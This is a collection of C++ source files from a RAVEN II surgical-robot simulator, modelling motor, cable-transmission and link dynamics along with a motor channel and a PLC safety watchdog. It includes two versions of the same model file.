  const double qm2 = (p.c20 * s.tm0 + p.c21 * s.tm1) + p.c22 * s.tm2;
  const double vm0 = p.c00 * s.wm0;
  const double vm1 = p.c10 * s.wm0 + p.c11 * s.wm1;
  const double vm2 = (p.c20 * s.wm0 + p.c21 * s.wm1) + p.c22 * s.wm2;
  tau[0] = scale[0] * (p.cable_k[0] * (qm0 - s.q0) + p.cable_d[0] * (vm0 - s.v0));
  tau[1] = scale[1] * (p.cable_k[1] * (qm1 - s.q1) + p.cable_d[1] * (vm1 - s.v1));
  tau[2] = scale[2] * (p.cable_k[2] * (qm2 - s.q2) + p.cable_d[2] * (vm2 - s.v2));
}

/// dx/dt for one lane.  `tau_em` is the electromagnetic motor torque
/// (K_t * clamped current) — state-independent, so callers hoist it out of
/// the per-stage loop.  HardStops compiles the joint-limit springs in or
/// out; when in, the term is evaluated branch-free.
template <bool HardStops>
RG_REALTIME RG_LANE_INLINE void derivative_lane(const DynParams& p, const LaneState& s, const LaneFx& fx,
                            const double tau_em[3], double dx[12]) noexcept {
  double tau_cable[3];
  cable_force_lane(p, s, fx.cable_scale, tau_cable);

  // Link side: M(q) qddot = tau_cable (+ hard stops + external) - bias.
  double tj0 = tau_cable[0] + fx.extra_joint_force[0];
  double tj1 = tau_cable[1] + fx.extra_joint_force[1];
  double tj2 = tau_cable[2] + fx.extra_joint_force[2];
  const double q[3] = {s.q0, s.q1, s.q2};
  const double v[3] = {s.v0, s.v1, s.v2};
  if constexpr (HardStops) {
    double tj[3] = {tj0, tj1, tj2};
    const double hsd = p.hard_stop_d;
    for (std::size_t i = 0; i < 3; ++i) {
      // excess is the (signed) penetration past the violated limit, zero
      // inside the range; the damper acts only while penetrating.  Every
      // ternary arm is a precomputed local so if-conversion can turn the
      // selects into blends (a load or subtract inside an arm would be
      // "speculation" and veto vectorizing the surrounding lane loop).
      const double lmin = p.limit_min[i];
      const double lmax = p.limit_max[i];
      const double below = lmin - q[i];
      const double above = lmax - q[i];
      const double excess = q[i] < lmin ? below : (q[i] > lmax ? above : 0.0);
      const double damping = excess != 0.0 ? hsd : 0.0;
      tj[i] += p.hard_stop_k * excess - damping * v[i];
    }
    tj0 = tj[0];
    tj1 = tj[1];
    tj2 = tj[2];
  }

  double s2;
  double c2;
  fast_sincos(s.q1, s2, c2);
  const double m = p.tool_mass;
  const double q3 = s.q2;
  const double w1 = s.v0;
  const double w2 = s.v1;
  const double v3 = s.v2;

  // Mass-matrix diagonal (exactly diagonal for a point tool mass).
  const double r2 = q3 * q3;
  const double mass0 = p.base_inertia_shoulder + m * r2 * s2 * s2;
  const double mass1 = p.base_inertia_elbow + m * r2;
  const double mass2 = m;

  // Coriolis/centrifugal + gravity (see link_dynamics.cpp for derivation).
  const double h0 = m * (2.0 * q3 * v3 * s2 * s2 + 2.0 * q3 * q3 * s2 * c2 * w2) * w1;
  const double h1 = m * (2.0 * q3 * v3 * w2 - q3 * q3 * s2 * c2 * w1 * w1) +
                    m * p.gravity * q3 * s2;
  const double h2 = -m * q3 * (w2 * w2 + s2 * s2 * w1 * w1) - m * p.gravity * c2;

  // Joint friction: viscous + tanh-smoothed Coulomb.
  const double fr0 = p.joint_viscous[0] * v[0] +
                     p.joint_coulomb[0] * fast_tanh(v[0] * DynParams::kInvCoulombSmoothing);
  const double fr1 = p.joint_viscous[1] * v[1] +
                     p.joint_coulomb[1] * fast_tanh(v[1] * DynParams::kInvCoulombSmoothing);
  const double fr2 = p.joint_viscous[2] * v[2] +
                     p.joint_coulomb[2] * fast_tanh(v[2] * DynParams::kInvCoulombSmoothing);

  const double qdd0 = (tj0 - (h0 + fr0)) / mass0;
  const double qdd1 = (tj1 - (h1 + fr1)) / mass1;
  const double qdd2 = (tj2 - (h2 + fr2)) / mass2;

  // Motor side: J omega_dot = tau_em + external - friction - C^T tau_cable.
  const double ref0 = (p.c00 * tau_cable[0] + p.c10 * tau_cable[1]) + p.c20 * tau_cable[2];
  const double ref1 = p.c11 * tau_cable[1] + p.c21 * tau_cable[2];
  const double ref2 = p.c22 * tau_cable[2];
  const double mf0 = p.motor_viscous[0] * s.wm0 +
                     p.motor_coulomb[0] * fast_tanh(s.wm0 * DynParams::kInvMotorSmoothing);
  const double mf1 = p.motor_viscous[1] * s.wm1 +
                     p.motor_coulomb[1] * fast_tanh(s.wm1 * DynParams::kInvMotorSmoothing);
  const double mf2 = p.motor_viscous[2] * s.wm2 +
                     p.motor_coulomb[2] * fast_tanh(s.wm2 * DynParams::kInvMotorSmoothing);
  const double wd0 =
      (tau_em[0] + fx.extra_motor_torque[0] - mf0 - ref0) * p.inv_rotor_inertia[0];
  const double wd1 =
      (tau_em[1] + fx.extra_motor_torque[1] - mf1 - ref1) * p.inv_rotor_inertia[1];
  const double wd2 =
      (tau_em[2] + fx.extra_motor_torque[2] - mf2 - ref2) * p.inv_rotor_inertia[2];

  dx[0] = s.wm0;
  dx[1] = s.wm1;
  dx[2] = s.wm2;
  dx[3] = wd0;
  dx[4] = wd1;
  dx[5] = wd2;
  dx[6] = s.v0;
  dx[7] = s.v1;
  dx[8] = s.v2;
  dx[9] = qdd0;
  dx[10] = qdd1;
  dx[11] = qdd2;
}

/// Electromagnetic torque per motor: K_t * clamp(i) — hoist per solver step.
RG_REALTIME RG_LANE_INLINE void electromagnetic_torque(const DynParams& p, const double currents[3],
                                   double tau_em[3]) noexcept {
  for (std::size_t i = 0; i < 3; ++i) {
    const double lo = -p.max_current[i];
    const double hi = p.max_current[i];
    const double clamped = currents[i] < lo ? lo : (currents[i] > hi ? hi : currents[i]);
    tau_em[i] = p.torque_constant[i] * clamped;
  }
}

}  // namespace rg
