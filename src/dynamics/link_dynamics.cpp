#include "dynamics/link_dynamics.hpp"

#include <cmath>

namespace rg {

namespace {
constexpr double kCoulombSmoothing = 0.05;  // rad/s (or m/s) tanh half-width
}

Vec3 LinkDynamics::mass_diagonal(const JointVector& q) const noexcept {
  const double s2 = std::sin(q[1]);
  const double r2 = q[2] * q[2];
  return Vec3{
      p_.base_inertia_shoulder + p_.tool_mass * r2 * s2 * s2,
      p_.base_inertia_elbow + p_.tool_mass * r2,
      p_.tool_mass,
  };
}

Vec3 LinkDynamics::coriolis_gravity(const JointVector& q, const JointVector& qdot) const noexcept {
  const double s2 = std::sin(q[1]);
  const double c2 = std::cos(q[1]);
  const double m = p_.tool_mass;
  const double q3 = q[2];
  const double w1 = qdot[0];
  const double w2 = qdot[1];
  const double v3 = qdot[2];

  Vec3 h;
  // Axis 1 (azimuth): Coriolis from changing lever arm (q3 sin q2).
  h[0] = m * (2.0 * q3 * v3 * s2 * s2 + 2.0 * q3 * q3 * s2 * c2 * w2) * w1;
  // Axis 2 (polar): Coriolis + centrifugal + gravity moment.
  h[1] = m * (2.0 * q3 * v3 * w2 - q3 * q3 * s2 * c2 * w1 * w1) +
         m * p_.gravity * q3 * s2;
  // Axis 3 (insertion): centrifugal relief + gravity component along tool.
  h[2] = -m * q3 * (w2 * w2 + s2 * s2 * w1 * w1) - m * p_.gravity * c2;
  return h;
}

Vec3 LinkDynamics::friction(const JointVector& qdot) const noexcept {
  const auto smooth_sign = [](double v) { return std::tanh(v / kCoulombSmoothing); };
  return Vec3{
      p_.viscous_shoulder * qdot[0] + p_.coulomb_shoulder * smooth_sign(qdot[0]),
      p_.viscous_elbow * qdot[1] + p_.coulomb_elbow * smooth_sign(qdot[1]),
      p_.viscous_insertion * qdot[2] + p_.coulomb_insertion * smooth_sign(qdot[2]),
  };
}

Vec3 LinkDynamics::bias_forces(const JointVector& q, const JointVector& qdot) const noexcept {
  return coriolis_gravity(q, qdot) + friction(qdot);
}

Vec3 LinkDynamics::acceleration(const JointVector& q, const JointVector& qdot,
                                const Vec3& tau) const noexcept {
  const Vec3 mass = mass_diagonal(q);
  const Vec3 h = bias_forces(q, qdot);
  return Vec3{(tau[0] - h[0]) / mass[0], (tau[1] - h[1]) / mass[1], (tau[2] - h[2]) / mass[2]};
}

Vec3 LinkDynamics::inverse_dynamics(const JointVector& q, const JointVector& qdot,
                                    const Vec3& qddot) const noexcept {
  const Vec3 mass = mass_diagonal(q);
  const Vec3 h = bias_forces(q, qdot);
  return Vec3{mass[0] * qddot[0] + h[0], mass[1] * qddot[1] + h[1], mass[2] * qddot[2] + h[2]};
}

double LinkDynamics::mechanical_energy(const JointVector& q, const JointVector& qdot) const noexcept {
  const double s2 = std::sin(q[1]);
  const double c2 = std::cos(q[1]);
  const double m = p_.tool_mass;
  const double kinetic =
      0.5 * (p_.base_inertia_shoulder * qdot[0] * qdot[0] +
             p_.base_inertia_elbow * qdot[1] * qdot[1]) +
      0.5 * m * (qdot[2] * qdot[2] + q[2] * q[2] * qdot[1] * qdot[1] +
                 q[2] * q[2] * s2 * s2 * qdot[0] * qdot[0]);
  const double potential = -m * p_.gravity * q[2] * c2;
  return kinetic + potential;
}

}  // namespace rg
