// Rigid-body dynamics of the RCM positioning stage.
//
// Derived by Euler-Lagrange from the kinematic model in
// kinematics/raven_kinematics.hpp: a point tool mass m3 at depth q3 along
// the tool direction, plus lumped base inertias for the two spherical
// axes.  Kinetic energy of the tool mass:
//
//   T = 1/2 m3 (q3dot^2 + q3^2 q2dot^2 + q3^2 sin^2(q2) q1dot^2)
//
// which yields the mass matrix, centrifugal/Coriolis terms, and (with
// U = -m3 g q3 cos q2 measured from the RCM) the gravity vector used
// below.  Joint friction is viscous + tanh-smoothed Coulomb.
#pragma once

#include "kinematics/types.hpp"
#include "math/vec.hpp"

namespace rg {

struct LinkParams {
  double base_inertia_shoulder = 0.012;  ///< I1b, kg*m^2 (arm assembly about azimuth)
  double base_inertia_elbow = 0.010;     ///< I2b, kg*m^2
  double tool_mass = 0.25;               ///< m3, kg (tool + carriage)
  double viscous_shoulder = 0.08;        ///< N*m*s/rad
  double viscous_elbow = 0.08;           ///< N*m*s/rad
  double viscous_insertion = 6.0;        ///< N*s/m
  double coulomb_shoulder = 0.02;        ///< N*m
  double coulomb_elbow = 0.02;           ///< N*m
  double coulomb_insertion = 0.8;        ///< N
  double gravity = 9.81;                 ///< m/s^2

  static constexpr LinkParams raven_defaults() { return LinkParams{}; }

  friend constexpr bool operator==(const LinkParams&, const LinkParams&) = default;
};

class LinkDynamics {
 public:
  explicit LinkDynamics(const LinkParams& params = LinkParams::raven_defaults())
      : p_(params) {}

  /// Diagonal of the configuration-dependent mass matrix (the RCM chain's
  /// mass matrix is exactly diagonal for a point tool mass).
  [[nodiscard]] Vec3 mass_diagonal(const JointVector& q) const noexcept;

  /// Generalized bias forces h(q, qdot) = Coriolis/centrifugal + gravity +
  /// friction, such that  M(q) qddot = tau - h(q, qdot).
  [[nodiscard]] Vec3 bias_forces(const JointVector& q, const JointVector& qdot) const noexcept;

  /// Joint accelerations for an applied joint torque/force vector.
  [[nodiscard]] Vec3 acceleration(const JointVector& q, const JointVector& qdot,
                                  const Vec3& tau) const noexcept;

  /// Torque required to achieve a desired acceleration (inverse dynamics);
  /// used by tests to check energy/consistency properties.
  [[nodiscard]] Vec3 inverse_dynamics(const JointVector& q, const JointVector& qdot,
                                      const Vec3& qddot) const noexcept;

  /// Total mechanical energy (kinetic + potential, friction excluded).
  [[nodiscard]] double mechanical_energy(const JointVector& q,
                                         const JointVector& qdot) const noexcept;

  [[nodiscard]] const LinkParams& params() const noexcept { return p_; }

 private:
  [[nodiscard]] Vec3 coriolis_gravity(const JointVector& q, const JointVector& qdot) const noexcept;
  [[nodiscard]] Vec3 friction(const JointVector& qdot) const noexcept;

  LinkParams p_;
};

}  // namespace rg
