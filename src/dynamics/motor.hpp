// Brushed DC motor model (MAXON RE40 / RE30, the actuators on RAVEN II).
//
// We model the torque-producing behaviour seen by the 1 kHz current loop:
// the motor controller regulates winding current, so the rotor equation is
//
//   J_m * domega/dt = K_t * i - b_m * omega - tau_coulomb(omega) - tau_load
//
// Electrical (L/R) transients are an order of magnitude faster than the
// control period and are absorbed into the current-regulation assumption.
// Catalogue values from the MAXON datasheets (RE40 150 W 48 V, RE30 60 W).
#pragma once

#include <algorithm>
#include <cmath>

namespace rg {

struct MotorParams {
  double torque_constant = 0.0;   ///< K_t, N*m/A
  double rotor_inertia = 0.0;     ///< J_m, kg*m^2
  double viscous_damping = 0.0;   ///< b_m, N*m*s/rad
  double coulomb_friction = 0.0;  ///< tau_c, N*m
  double max_current = 0.0;       ///< |i| limit enforced by controller, A
  double terminal_resistance = 0.0;  ///< ohm (used for power/thermal checks)

  friend constexpr bool operator==(const MotorParams&, const MotorParams&) = default;

  /// MAXON RE40 (150 W, 48 V) — shoulder and elbow axes.
  static constexpr MotorParams re40() {
    return MotorParams{
        .torque_constant = 0.0302,
        .rotor_inertia = 1.42e-5,
        .viscous_damping = 2.0e-6,
        .coulomb_friction = 4.0e-3,
        .max_current = 10.0,
        .terminal_resistance = 0.299,
    };
  }

  /// MAXON RE30 (60 W) — tool insertion axis.
  static constexpr MotorParams re30() {
    return MotorParams{
        .torque_constant = 0.0259,
        .rotor_inertia = 3.45e-6,
        .viscous_damping = 1.0e-6,
        .coulomb_friction = 2.0e-3,
        .max_current = 8.0,
        .terminal_resistance = 0.611,
    };
  }
};

/// Electromagnetic torque for a commanded current (controller clamps the
/// current to the drive limit).
inline double motor_torque(const MotorParams& p, double current) noexcept {
  const double clamped = std::clamp(current, -p.max_current, p.max_current);
  return p.torque_constant * clamped;
}

/// Smooth Coulomb + viscous friction torque at rotor speed omega.
/// tanh-smoothing avoids the sign() discontinuity that breaks ODE solvers.
inline double motor_friction(const MotorParams& p, double omega) noexcept {
  constexpr double kSmoothingSpeed = 0.5;  // rad/s half-width of the tanh
  return p.viscous_damping * omega + p.coulomb_friction * std::tanh(omega / kSmoothingSpeed);
}

}  // namespace rg
