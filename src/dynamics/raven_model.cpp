#include "dynamics/raven_model.hpp"

#include <cmath>

namespace rg {

RavenDynamicsParams RavenDynamicsParams::with_calibration_error(double factor) const {
  RavenDynamicsParams out = *this;
  out.link.base_inertia_shoulder *= factor;
  out.link.base_inertia_elbow *= factor;
  out.link.tool_mass *= factor;
  out.link.viscous_shoulder *= factor;
  out.link.viscous_elbow *= factor;
  out.link.viscous_insertion *= factor;
  for (double& k : out.cable_stiffness) k *= factor;
  for (double& d : out.cable_damping) d *= factor;
  return out;
}

DynParams DynParams::from(const RavenDynamicsParams& params, const Mat3& motor_to_joint) {
  DynParams p;
  p.c00 = motor_to_joint(0, 0);
  p.c10 = motor_to_joint(1, 0);
  p.c11 = motor_to_joint(1, 1);
  p.c20 = motor_to_joint(2, 0);
  p.c21 = motor_to_joint(2, 1);
  p.c22 = motor_to_joint(2, 2);
  p.cable_k = params.cable_stiffness;
  p.cable_d = params.cable_damping;
  for (std::size_t i = 0; i < 3; ++i) {
    const MotorParams& mp = params.motors[i];
    p.torque_constant[i] = mp.torque_constant;
    p.max_current[i] = mp.max_current;
    p.motor_viscous[i] = mp.viscous_damping;
    p.motor_coulomb[i] = mp.coulomb_friction;
    p.inv_rotor_inertia[i] = 1.0 / mp.rotor_inertia;
    p.limit_min[i] = params.hard_stop_limits.joint(i).min;
    p.limit_max[i] = params.hard_stop_limits.joint(i).max;
  }
  p.base_inertia_shoulder = params.link.base_inertia_shoulder;
  p.base_inertia_elbow = params.link.base_inertia_elbow;
  p.tool_mass = params.link.tool_mass;
  p.gravity = params.link.gravity;
  p.joint_viscous = {params.link.viscous_shoulder, params.link.viscous_elbow,
                     params.link.viscous_insertion};
  p.joint_coulomb = {params.link.coulomb_shoulder, params.link.coulomb_elbow,
                     params.link.coulomb_insertion};
  p.hard_stop_k = params.hard_stop_stiffness;
  p.hard_stop_d = params.hard_stop_damping;
  return p;
}

namespace {

RG_REALTIME LaneState load_lane(const RavenDynamicsModel::State& x) noexcept {
  return LaneState{x[0], x[1], x[2], x[3], x[4], x[5], x[6], x[7], x[8], x[9], x[10], x[11]};
}

}  // namespace

RavenDynamicsModel::RavenDynamicsModel(const RavenDynamicsParams& params)
    : p_(params), coupling_(params.transmission), link_(params.link) {
  for (double k : p_.cable_stiffness) require(k > 0.0, "cable stiffness must be > 0");
  for (double d : p_.cable_damping) require(d >= 0.0, "cable damping must be >= 0");
  kp_ = DynParams::from(p_, coupling_.motor_to_joint_matrix());
}

RG_REALTIME Vec3 RavenDynamicsModel::cable_force(const State& x,
                                     const std::array<double, 3>& scale) const noexcept {
  const LaneState s = load_lane(x);
  double tau[3];
  cable_force_lane(kp_, s, scale.data(), tau);
  return Vec3{tau[0], tau[1], tau[2]};
}

RG_REALTIME RavenDynamicsModel::State RavenDynamicsModel::derivative(const State& x,
                                                         const Vec3& currents) const noexcept {
  return derivative(x, currents, ExternalEffects{});
}

RG_REALTIME RavenDynamicsModel::State RavenDynamicsModel::derivative(const State& x, const Vec3& currents,
                                                         const ExternalEffects& fx) const noexcept {
  const LaneState s = load_lane(x);
  LaneFx lfx;
  for (std::size_t i = 0; i < 3; ++i) {
    lfx.extra_motor_torque[i] = fx.extra_motor_torque[i];
    lfx.cable_scale[i] = fx.cable_scale[i];
    lfx.extra_joint_force[i] = fx.extra_joint_force[i];
  }
  double tau_em[3];
  electromagnetic_torque(kp_, currents.v.data(), tau_em);

  State dx;
  if (p_.enforce_hard_stops) {
    derivative_lane<true>(kp_, s, lfx, tau_em, dx.v.data());
  } else {
    derivative_lane<false>(kp_, s, lfx, tau_em, dx.v.data());
  }
  return dx;
}

RG_REALTIME RavenDynamicsModel::State RavenDynamicsModel::step(const State& x, const Vec3& currents,
                                                   double h, SolverKind solver) const noexcept {
  const auto f = [this, &currents](double /*t*/, const State& s) {
    return derivative(s, currents);
  };
  return solver_step(solver, f, 0.0, x, h);
}

RG_REALTIME RavenDynamicsModel::State RavenDynamicsModel::make_rest_state(const JointVector& q) const noexcept {
  State x{};
  set_joint_pos(x, q);
  set_motor_pos(x, coupling_.joint_to_motor(q));
  return x;
}

}  // namespace rg
