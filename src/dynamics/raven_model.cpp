#include "dynamics/raven_model.hpp"

#include <cmath>

namespace rg {

RavenDynamicsParams RavenDynamicsParams::with_calibration_error(double factor) const {
  RavenDynamicsParams out = *this;
  out.link.base_inertia_shoulder *= factor;
  out.link.base_inertia_elbow *= factor;
  out.link.tool_mass *= factor;
  out.link.viscous_shoulder *= factor;
  out.link.viscous_elbow *= factor;
  out.link.viscous_insertion *= factor;
  for (double& k : out.cable_stiffness) k *= factor;
  for (double& d : out.cable_damping) d *= factor;
  return out;
}

RavenDynamicsModel::RavenDynamicsModel(const RavenDynamicsParams& params)
    : p_(params), coupling_(params.transmission), link_(params.link) {
  for (double k : p_.cable_stiffness) require(k > 0.0, "cable stiffness must be > 0");
  for (double d : p_.cable_damping) require(d >= 0.0, "cable damping must be >= 0");
}

Vec3 RavenDynamicsModel::cable_force(const State& x,
                                     const std::array<double, 3>& scale) const noexcept {
  const JointVector q_m = coupling_.motor_to_joint(motor_pos(x));
  const JointVector qd_m = coupling_.motor_to_joint_velocity(motor_vel(x));
  const JointVector q = joint_pos(x);
  const JointVector qd = joint_vel(x);
  Vec3 tau;
  for (std::size_t i = 0; i < 3; ++i) {
    tau[i] = scale[i] * (p_.cable_stiffness[i] * (q_m[i] - q[i]) +
                         p_.cable_damping[i] * (qd_m[i] - qd[i]));
  }
  return tau;
}

RavenDynamicsModel::State RavenDynamicsModel::derivative(const State& x,
                                                         const Vec3& currents) const noexcept {
  return derivative(x, currents, ExternalEffects{});
}

RavenDynamicsModel::State RavenDynamicsModel::derivative(const State& x, const Vec3& currents,
                                                         const ExternalEffects& fx) const noexcept {
  const Vec3 tau_cable = cable_force(x, fx.cable_scale);

  // Link side: M qddot = tau_cable (+ hard stops + external) - bias.
  Vec3 tau_joint = tau_cable + fx.extra_joint_force;
  const JointVector q = joint_pos(x);
  const JointVector qd = joint_vel(x);
  if (p_.enforce_hard_stops) {
    for (std::size_t i = 0; i < 3; ++i) {
      const JointLimit& lim = p_.hard_stop_limits.joint(i);
      if (q[i] < lim.min) {
        tau_joint[i] += p_.hard_stop_stiffness * (lim.min - q[i]) - p_.hard_stop_damping * qd[i];
      } else if (q[i] > lim.max) {
        tau_joint[i] += p_.hard_stop_stiffness * (lim.max - q[i]) - p_.hard_stop_damping * qd[i];
      }
    }
  }
  const Vec3 qddot = link_.acceleration(q, qd, tau_joint);

  // Motor side: J omega_dot = K_t i - friction - reflected cable torque.
  const MotorVector reflected = coupling_.joint_torque_to_motor(tau_cable);
  const MotorVector omega = motor_vel(x);
  Vec3 omega_dot;
  for (std::size_t i = 0; i < 3; ++i) {
    const MotorParams& mp = p_.motors[i];
    const double tau_em = motor_torque(mp, currents[i]);
    omega_dot[i] = (tau_em + fx.extra_motor_torque[i] - motor_friction(mp, omega[i]) -
                    reflected[i]) /
                   mp.rotor_inertia;
  }

  State dx;
  // d theta_m = omega_m
  dx[0] = x[3]; dx[1] = x[4]; dx[2] = x[5];
  // d omega_m
  dx[3] = omega_dot[0]; dx[4] = omega_dot[1]; dx[5] = omega_dot[2];
  // d q = qdot
  dx[6] = x[9]; dx[7] = x[10]; dx[8] = x[11];
  // d qdot
  dx[9] = qddot[0]; dx[10] = qddot[1]; dx[11] = qddot[2];
  return dx;
}

RavenDynamicsModel::State RavenDynamicsModel::step(const State& x, const Vec3& currents,
                                                   double h, SolverKind solver) const {
  const auto f = [this, &currents](double /*t*/, const State& s) {
    return derivative(s, currents);
  };
  return solver_step(solver, f, 0.0, x, h);
}

RavenDynamicsModel::State RavenDynamicsModel::make_rest_state(const JointVector& q) const noexcept {
  State x{};
  set_joint_pos(x, q);
  set_motor_pos(x, coupling_.joint_to_motor(q));
  return x;
}

}  // namespace rg
