// The combined motor + cable + link dynamic model of one RAVEN II arm's
// positioning stage — the model at the heart of the paper's detection
// framework ("two sets of second-order ODEs ... link and motor dynamics").
//
// State (12 doubles):
//   [0..2]  theta_m : motor shaft angles (rad)
//   [3..5]  omega_m : motor shaft speeds (rad/s)
//   [6..8]  q       : joint coordinates (rad, rad, m)
//   [9..11] qdot    : joint rates (rad/s, rad/s, m/s)
//
// The cable transmission connects the two halves as a stiff spring-damper
// in joint space:  tau_cable = Kc (C theta_m - q) + Dc (C omega_m - qdot),
// acting forward on the links and reflected back on the rotors via C^T.
#pragma once

#include <array>

#include "common/realtime.hpp"
#include "dynamics/lane_kernel.hpp"
#include "dynamics/link_dynamics.hpp"
#include "dynamics/motor.hpp"
#include "kinematics/coupling.hpp"
#include "kinematics/joint_limits.hpp"
#include "kinematics/types.hpp"
#include "math/vec.hpp"
#include "ode/integrators.hpp"

namespace rg {

struct RavenDynamicsParams {
  std::array<MotorParams, 3> motors{MotorParams::re40(), MotorParams::re40(),
                                    MotorParams::re30()};
  TransmissionParams transmission{};
  LinkParams link{};
  /// Cable spring constants, joint side (N*m/rad, N*m/rad, N/m).
  std::array<double, 3> cable_stiffness{2000.0, 2000.0, 2.0e4};
  /// Cable damping, joint side (N*m*s/rad, N*m*s/rad, N*s/m).
  std::array<double, 3> cable_damping{12.0, 12.0, 120.0};
  /// Mechanical hard stops at the joint limits (plant realism; the
  /// detector's model typically disables them).
  bool enforce_hard_stops = false;
  JointLimits hard_stop_limits = JointLimits::raven_defaults();
  double hard_stop_stiffness = 2.0e4;  ///< per-unit penetration
  double hard_stop_damping = 100.0;

  static RavenDynamicsParams raven_defaults() { return RavenDynamicsParams{}; }

  /// A copy with inertial/friction/cable coefficients scaled by `factor`
  /// — models imperfect manual calibration of the detector's model
  /// against the physical robot (the paper tuned coefficients by hand).
  [[nodiscard]] RavenDynamicsParams with_calibration_error(double factor) const;

  friend constexpr bool operator==(const RavenDynamicsParams&,
                                   const RavenDynamicsParams&) = default;
};

/// External mechanical effects applied on top of the nominal model —
/// used by the plant for fail-safe brakes and cable-damage modelling.
struct ExternalEffects {
  /// Extra torque applied at each motor shaft (N*m), e.g. brake drag.
  Vec3 extra_motor_torque{};
  /// Per-axis scale on cable stiffness/damping (1 = intact, 0 = snapped).
  std::array<double, 3> cable_scale{1.0, 1.0, 1.0};
  /// Extra generalized force on each joint (N*m, N*m, N).
  Vec3 extra_joint_force{};
};

class RavenDynamicsModel {
 public:
  using State = Vec<12>;

  explicit RavenDynamicsModel(const RavenDynamicsParams& params = RavenDynamicsParams::raven_defaults());

  /// dx/dt for the 12-dim state under commanded motor currents (A).
  [[nodiscard]] RG_REALTIME State derivative(const State& x, const Vec3& currents) const noexcept;

  /// dx/dt with external effects (brakes, cable damage, disturbances).
  [[nodiscard]] RG_REALTIME State derivative(const State& x, const Vec3& currents,
                                             const ExternalEffects& fx) const noexcept;

  /// Joint-side cable torque/force vector (N*m, N*m, N) — exposed so the
  /// plant's damage model can watch for cable overload.
  [[nodiscard]] RG_REALTIME Vec3 cable_force(const State& x) const noexcept {
    return cable_force(x, {1.0, 1.0, 1.0});
  }

  /// Advance the state by h seconds with the given solver.  `solver` must
  /// be a valid SolverKind (validate_solver() at configuration time).
  [[nodiscard]] RG_REALTIME State step(const State& x, const Vec3& currents, double h,
                                       SolverKind solver) const noexcept;

  /// Build a consistent rest state at a joint configuration (cable
  /// un-stretched: theta_m = C^{-1} q; all rates zero).
  [[nodiscard]] State make_rest_state(const JointVector& q) const noexcept;

  // State accessors -------------------------------------------------------
  RG_REALTIME static MotorVector motor_pos(const State& x) noexcept { return {x[0], x[1], x[2]}; }
  RG_REALTIME static MotorVector motor_vel(const State& x) noexcept { return {x[3], x[4], x[5]}; }
  RG_REALTIME static JointVector joint_pos(const State& x) noexcept { return {x[6], x[7], x[8]}; }
  RG_REALTIME static JointVector joint_vel(const State& x) noexcept { return {x[9], x[10], x[11]}; }
  RG_REALTIME static void set_motor_pos(State& x, const MotorVector& v) noexcept {
    x[0] = v[0]; x[1] = v[1]; x[2] = v[2];
  }
  RG_REALTIME static void set_motor_vel(State& x, const MotorVector& v) noexcept {
    x[3] = v[0]; x[4] = v[1]; x[5] = v[2];
  }
  RG_REALTIME static void set_joint_pos(State& x, const JointVector& v) noexcept {
    x[6] = v[0]; x[7] = v[1]; x[8] = v[2];
  }
  RG_REALTIME static void set_joint_vel(State& x, const JointVector& v) noexcept {
    x[9] = v[0]; x[10] = v[1]; x[11] = v[2];
  }

  [[nodiscard]] const RavenDynamicsParams& params() const noexcept { return p_; }
  [[nodiscard]] RG_REALTIME const CableCoupling& coupling() const noexcept { return coupling_; }
  [[nodiscard]] const LinkDynamics& link() const noexcept { return link_; }
  /// The flattened constants this model evaluates with — shared verbatim
  /// with BatchRavenModel so batched lanes are bit-identical to scalar.
  [[nodiscard]] const DynParams& kernel_params() const noexcept { return kp_; }

 private:
  [[nodiscard]] Vec3 cable_force(const State& x,
                                 const std::array<double, 3>& scale) const noexcept;

  RavenDynamicsParams p_;
  CableCoupling coupling_;
  LinkDynamics link_;
  DynParams kp_;
};

}  // namespace rg
