// Motor controller channel: DAC word -> regulated winding current, and
// encoder count <-> shaft angle conversion.
//
// The custom USB boards carry commodity DACs and encoder readers; the
// analog drive stage regulates winding current proportional to the DAC
// word.  Encoder feedback is a quadrature count — position information is
// quantized here, which is one (deliberate) source of detector-model
// error.
#pragma once

#include <cmath>
#include <cstdint>

#include "common/error.hpp"
#include "common/realtime.hpp"
#include "common/units.hpp"
#include "dynamics/motor.hpp"

namespace rg {

struct MotorChannelConfig {
  /// Full-scale drive current at DAC = +32767 (A).
  double full_scale_current = 10.0;
  /// Encoder resolution: counts per motor-shaft radian (e.g. a 500-line
  /// encoder in quadrature = 2000 counts/rev = 318.3 counts/rad).
  double counts_per_rad = 2000.0 / (2.0 * 3.14159265358979323846);
};

class MotorChannel {
 public:
  explicit MotorChannel(const MotorChannelConfig& config = {}) : config_(config) {
    require(config.full_scale_current > 0.0, "full_scale_current must be > 0");
    require(config.counts_per_rad > 0.0, "counts_per_rad must be > 0");
  }

  /// Regulated current for a DAC word (A).
  [[nodiscard]] RG_REALTIME double current_from_dac(std::int16_t dac) const noexcept {
    return static_cast<double>(dac) * config_.full_scale_current / 32767.0;
  }

  /// DAC word that commands (approximately) the given current; saturates
  /// at the 16-bit range.
  [[nodiscard]] RG_REALTIME std::int16_t dac_from_current(double current) const noexcept {
    const double scaled = current / config_.full_scale_current * 32767.0;
    const double clamped = std::clamp(scaled, -32768.0, 32767.0);
    return static_cast<std::int16_t>(std::lround(clamped));
  }

  /// Quantize a shaft angle to an encoder count.
  [[nodiscard]] RG_REALTIME std::int32_t counts_from_angle(double angle_rad) const noexcept {
    return static_cast<std::int32_t>(std::lround(angle_rad * config_.counts_per_rad));
  }

  /// Reconstruct a shaft angle from an encoder count.
  [[nodiscard]] RG_REALTIME double angle_from_counts(std::int32_t counts) const noexcept {
    return static_cast<double>(counts) / config_.counts_per_rad;
  }

  [[nodiscard]] const MotorChannelConfig& config() const noexcept { return config_; }

 private:
  MotorChannelConfig config_;
};

}  // namespace rg
