#include "hw/plc.hpp"

namespace rg {

Plc::Plc(const PlcConfig& config) : config_(config) {}

RG_REALTIME void Plc::on_command_byte0(bool watchdog_bit, RobotState commanded_state) noexcept {
  if (!seen_any_packet_ || watchdog_bit != last_watchdog_bit_) {
    ticks_since_toggle_ = 0;
  }
  last_watchdog_bit_ = watchdog_bit;
  seen_any_packet_ = true;
  last_state_ = commanded_state;
}

RG_REALTIME void Plc::tick() noexcept {
  if (!seen_any_packet_) return;  // nothing to time out against yet
  ++ticks_since_toggle_;
  if (ticks_since_toggle_ > config_.watchdog_timeout_ticks) {
    estop_latched_ = true;
  }
}

}  // namespace rg
