// Programmable Logic Controller (PLC) safety processor.
//
// The PLC is the independent hardware safety element: it watches the
// watchdog square wave embedded in every command packet (Byte 0, bit 4)
// and, if the control software stops toggling it — which the software
// does deliberately on detecting an unsafe command — latches the system
// into E-STOP and engages the fail-safe power-off brakes.  The latch is
